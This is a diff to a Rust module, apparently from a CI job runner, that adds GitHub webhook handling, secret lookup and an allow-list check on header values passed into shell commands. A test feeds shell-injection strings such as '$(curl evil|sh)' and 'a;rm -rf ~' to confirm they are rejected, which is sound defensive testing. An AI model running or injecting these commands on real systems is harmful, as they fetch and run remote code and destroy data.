@@ -1,5 +1,13 @@
+use std::collections::HashMap;
+
 use serde::{Deserialize, Serialize};
 
+use crate::{
+    credential::{Credential, CredentialType},
+    error::NomosError,
+    script::ScriptParameterType,
+};
+
 pub trait TriggerPlaceHolder {
     fn get_place_holder() -> Self;
 }
@@ -12,17 +20,191 @@ pub struct GithubRepository {
     pub full_name: String,
 }
 
+#[derive(Debug, Deserialize, Clone)]
+pub struct GithubPusher {
+    pub name: String,
+}
+
 #[derive(Debug, Deserialize, Clone)]
 pub struct GithubPayload {
-    pub repository: GithubRepository,
+    /// Missing from some events, e.g. the `ping` of an organization webhook.
+    #[serde(default)]
+    pub repository: Option<GithubRepository>,
+    #[serde(rename = "ref")]
+    pub git_ref: Option<String>,
+    /// Commit SHA after the push.
+    pub after: Option<String>,
+    pub pusher: Option<GithubPusher>,
+}
+
+impl GithubPayload {
+    pub fn repository_name(&self) -> Option<&str> {
+        self.repository.as_ref().map(|repository| repository.full_name.as_str())
+    }
+
+    /// Common payload fields as job parameters (`github_ref`, `github_sha`, `github_repository`, `github_pusher`,
+    /// `github_event`). Fields missing from the payload are skipped.
+    pub fn to_parameters(&self, event: &str) -> HashMap<String, ScriptParameterType> {
+        let mut parameters = HashMap::new();
+        if let Some(repository) = &self.repository {
+            parameters.insert(
+                "github_repository".to_string(),
+                ScriptParameterType::String(repository.full_name.clone()),
+            );
+        }
+        parameters.insert(
+            "github_event".to_string(),
+            ScriptParameterType::String(event.to_string()),
+        );
+        if let Some(git_ref) = &self.git_ref {
+            parameters.insert("github_ref".to_string(), ScriptParameterType::String(git_ref.clone()));
+        }
+        if let Some(sha) = &self.after {
+            parameters.insert("github_sha".to_string(), ScriptParameterType::String(sha.clone()));
+        }
+        if let Some(pusher) = &self.pusher {
+            parameters.insert(
+                "github_pusher".to_string(),
+                ScriptParameterType::String(pusher.name.clone()),
+            );
+        }
+        parameters
+    }
 }
 
 #[derive(Debug, Serialize, Deserialize, PartialEq, Clone)]
 pub struct GithubTriggerParameter {
     pub branch: String,
     pub events: Vec<String>,
+    /// Id of a Text credential holding the webhook secret. For simple setups `env:NAME` reads the secret from the
+    /// environment variable `NAME` instead.
     pub secret_credential_id: String,
     pub url: String,
+    /// Request headers passed to the job, from header name to parameter name, e.g. `x-github-delivery: delivery_id`.
+    /// Like the `github_*` parameters, they are only used if the job defines the parameter. Headers are not covered by
+    /// the signature, so they never replace the parameters read from the payload.
+    #[serde(default)]
+    pub headers: HashMap<String, String>,
+}
+
+/// Longer header values are cut off.
+const MAX_HEADER_VALUE_LENGTH: usize = 1024;
+
+/// Punctuation allowed in mapped header values, besides letters and digits.
+const HEADER_VALUE_PUNCTUATION: &str = "-_.:/+=@,";
+
+impl GithubTriggerParameter {
+    /// Environment variable of an `env:NAME` secret reference.
+    pub fn secret_env_var(&self) -> Option<&str> {
+        self.secret_credential_id.strip_prefix("env:")
+    }
+
+    /// Checks that the secret credential exists and is `text` (or `vault`), which a webhook would otherwise only
+    /// find out. Skipped for `env:` secrets and when credentials can't be read, the webhook checks again.
+    pub fn validate_secret(&self) -> Result<(), NomosError> {
+        if self.secret_env_var().is_some() {
+            return Ok(());
+        }
+        let credential = match Credential::get(&self.secret_credential_id, None) {
+            Ok(Some(credential)) => credential,
+            Ok(None) => {
+                return Err(NomosError::NotFound(format!(
+                    "Secret credential {:?} of the github trigger",
+                    self.secret_credential_id
+                )))
+            }
+            Err(e) => {
+                eprintln!(
+                    "Skipping the check of credential {:?}: {}",
+                    self.secret_credential_id, e
+                );
+                return Ok(());
+            }
+        };
+        match credential.value {
+            CredentialType::Text(_) | CredentialType::Vault(_) => Ok(()),
+            _ => Err(NomosError::Validation(format!(
+                "Secret credential {:?} of the github trigger must be a text credential, not {}",
+                self.secret_credential_id,
+                credential.get_credential_type()
+            ))),
+        }
+    }
+
+    /// Checks that the mapped headers are plain header names (letters, digits and `-`) and the parameters plain
+    /// identifiers (letters, digits and `_`).
+    pub fn validate_headers(&self) -> Result<(), NomosError> {
+        for (header, parameter) in &self.headers {
+            if header.is_empty() || !header.chars().all(|c| c.is_ascii_alphanumeric() || c == '-') {
+                return Err(NomosError::Validation(format!("Invalid header name {:?}", header)));
+            }
+            if parameter.is_empty() || !parameter.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
+                return Err(NomosError::Validation(format!(
+                    "Invalid parameter name {:?} for header {:?}",
+                    parameter, header
+                )));
+            }
+        }
+        Ok(())
+    }
+
+    /// Parameters of the mapped headers sent with the webhook. `header` returns the value of a header by name.
+    /// Control characters are removed from the values. The values end up in shell commands, so a value with other
+    /// characters than letters, digits and `HEADER_VALUE_PUNCTUATION` rejects the delivery.
+    pub fn header_parameters<'a>(
+        &self,
+        header: impl Fn(&str) -> Option<&'a str>,
+    ) -> Result<HashMap<String, ScriptParameterType>, NomosError> {
+        let mut parameters = HashMap::new();
+        for (name, parameter) in &self.headers {
+            let Some(value) = header(&name.to_ascii_lowercase()) else {
+                continue;
+            };
+            let value: String = value
+                .chars()
+                .filter(|c| !c.is_control())
+                .take(MAX_HEADER_VALUE_LENGTH)
+                .collect();
+            let value = value.trim();
+            if !value
+                .chars()
+                .all(|c| c.is_ascii_alphanumeric() || HEADER_VALUE_PUNCTUATION.contains(c))
+            {
+                return Err(NomosError::Validation(format!(
+                    "Header {} has characters other than letters, digits and {}",
+                    name, HEADER_VALUE_PUNCTUATION
+                )));
+            }
+            parameters.insert(parameter.clone(), ScriptParameterType::String(value.to_string()));
+        }
+        Ok(parameters)
+    }
+
+    /// The webhook secret, read when a webhook is verified.
+    pub fn secret(&self) -> Result<String, NomosError> {
+        if let Some(name) = self.secret_env_var() {
+            return std::env::var(name)
+                .ok()
+                .filter(|secret| !secret.is_empty())
+                .ok_or_else(|| {
+                    NomosError::Validation(format!(
+                        "Environment variable of the webhook secret is not set: {}",
+                        name
+                    ))
+                });
+        }
+
+        let credential = Credential::get(&self.secret_credential_id, None)?
+            .ok_or_else(|| NomosError::NotFound(format!("Credential {:?}", self.secret_credential_id)))?;
+        match credential.value {
+            CredentialType::Text(text) => Ok(text.value),
+            CredentialType::Vault(vault) => vault.fetch(),
+            _ => Err(NomosError::Validation(format!(
+                "Credential is not Text: {}",
+                self.secret_credential_id
+            ))),
+        }
+    }
 }
 
 #[derive(Debug, Serialize, Deserialize, PartialEq, Clone)]
@@ -34,6 +216,16 @@ pub enum TriggerType {
     Github(GithubTriggerParameter),
 }
 
+impl TriggerType {
+    /// The serialized `type` tag of the trigger.
+    pub fn type_name(&self) -> &'static str {
+        match self {
+            TriggerType::Manual(_) => "manual",
+            TriggerType::Github(_) => "github",
+        }
+    }
+}
+
 impl TriggerPlaceHolder for ManualTriggerParameter {
     fn get_place_holder() -> Self {
         ManualTriggerParameter {}
@@ -47,6 +239,165 @@ impl TriggerPlaceHolder for GithubTriggerParameter {
             events: vec!["push".to_string()],
             secret_credential_id: "".to_string(),
             url: "git@github.com:godotengine/godot.git".to_string(),
+            headers: HashMap::new(),
         }
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_github_payload_parameters() {
+        let body = r#"{
+            "ref": "refs/heads/main",
+            "before": "0000000000000000000000000000000000000000",
+            "after": "6113728f27ae82c7b1a177c8d03f9e96e0adf246",
+            "repository": { "id": 1, "full_name": "owner/repo" },
+            "pusher": { "name": "octocat", "email": "octocat@github.com" },
+            "commits": []
+        }"#;
+        let payload = serde_json::from_str::<GithubPayload>(body).unwrap();
+        let parameters = payload.to_parameters("push");
+
+        let expected = [
+            ("github_ref", "refs/heads/main"),
+            ("github_sha", "6113728f27ae82c7b1a177c8d03f9e96e0adf246"),
+            ("github_repository", "owner/repo"),
+            ("github_pusher", "octocat"),
+            ("github_event", "push"),
+        ];
+        assert_eq!(parameters.len(), expected.len());
+        for (name, value) in expected {
+            assert_eq!(
+                parameters.get(name),
+                Some(&ScriptParameterType::String(value.to_string()))
+            );
+        }
+    }
+
+    fn trigger_with_secret(secret_credential_id: &str) -> GithubTriggerParameter {
+        GithubTriggerParameter {
+            secret_credential_id: secret_credential_id.to_string(),
+            ..GithubTriggerParameter::get_place_holder()
+        }
+    }
+
+    #[test]
+    fn test_secret_from_credential() {
+        let credential = Credential {
+            id: "trigger-secret-credential".to_string(),
+            value: CredentialType::Text(crate::credential::TextCredentialParameter {
+                value: "from-credential".to_string(),
+            }),
+            read_only: false,
+        };
+        credential.sync(&mut None).unwrap();
+
+        assert_eq!(
+            trigger_with_secret("trigger-secret-credential").secret().unwrap(),
+            "from-credential"
+        );
+        assert!(trigger_with_secret("trigger-missing-credential").secret().is_err());
+    }
+
+    #[test]
+    fn test_validate_secret() {
+        let credential = |id: &str, value: CredentialType| {
+            Credential {
+                id: id.to_string(),
+                value,
+                read_only: false,
+            }
+            .sync(&mut None)
+            .unwrap()
+        };
+        credential(
+            "trigger-validate-text",
+            CredentialType::Text(crate::credential::TextCredentialParameter {
+                value: "secret".to_string(),
+            }),
+        );
+        credential(
+            "trigger-validate-ssh",
+            CredentialType::Ssh(crate::credential::SshCredentialParameter::default()),
+        );
+
+        assert!(trigger_with_secret("trigger-validate-text").validate_secret().is_ok());
+        assert!(trigger_with_secret("env:NOMOS_TEST_UNSET_SECRET")
+            .validate_secret()
+            .is_ok());
+        assert!(matches!(
+            trigger_with_secret("trigger-validate-missing").validate_secret(),
+            Err(NomosError::NotFound(_))
+        ));
+        assert!(matches!(
+            trigger_with_secret("trigger-validate-ssh").validate_secret(),
+            Err(NomosError::Validation(_))
+        ));
+    }
+
+    #[test]
+    fn test_header_parameters() {
+        let trigger = GithubTriggerParameter {
+            headers: HashMap::from([
+                ("X-GitHub-Delivery".to_string(), "delivery_id".to_string()),
+                ("x-missing".to_string(), "missing".to_string()),
+            ]),
+            ..GithubTriggerParameter::get_place_holder()
+        };
+        assert!(trigger.validate_headers().is_ok());
+
+        let parameters = trigger
+            .header_parameters(|name| match name {
+                "x-github-delivery" => Some(" 72d3162e\tdelivery "),
+                _ => None,
+            })
+            .unwrap();
+        assert_eq!(parameters.len(), 1);
+        assert_eq!(
+            parameters.get("delivery_id"),
+            Some(&ScriptParameterType::String("72d3162edelivery".to_string()))
+        );
+
+        // Shell metacharacters reject the delivery
+        for payload in ["$(curl evil|sh)", "a;rm -rf ~", "`id`", "a&&b", "'quoted'"] {
+            let result = trigger.header_parameters(|name| match name {
+                "x-github-delivery" => Some(payload),
+                _ => None,
+            });
+            assert!(matches!(result, Err(NomosError::Validation(_))), "{}", payload);
+        }
+
+        let invalid = |header: &str, parameter: &str| GithubTriggerParameter {
+            headers: HashMap::from([(header.to_string(), parameter.to_string())]),
+            ..GithubTriggerParameter::get_place_holder()
+        };
+        assert!(invalid("x-event: y", "event").validate_headers().is_err());
+        assert!(invalid("x-event", "steps.build").validate_headers().is_err());
+        assert!(invalid("x-event", "").validate_headers().is_err());
+    }
+
+    #[test]
+    fn test_secret_from_env() {
+        std::env::set_var("NOMOS_TEST_TRIGGER_SECRET", "from-env");
+        let trigger = trigger_with_secret("env:NOMOS_TEST_TRIGGER_SECRET");
+        assert_eq!(trigger.secret_env_var(), Some("NOMOS_TEST_TRIGGER_SECRET"));
+        assert_eq!(trigger.secret().unwrap(), "from-env");
+
+        assert!(trigger_with_secret("env:NOMOS_TEST_UNSET_TRIGGER_SECRET")
+            .secret()
+            .is_err());
+    }
+
+    #[test]
+    fn test_github_payload_parameters_missing_fields() {
+        let body = r#"{ "repository": { "full_name": "owner/repo" } }"#;
+        let payload = serde_json::from_str::<GithubPayload>(body).unwrap();
+        let parameters = payload.to_parameters("ping");
+
+        assert_eq!(parameters.len(), 2);
+        assert!(!parameters.contains_key("github_sha"));
+    }
+}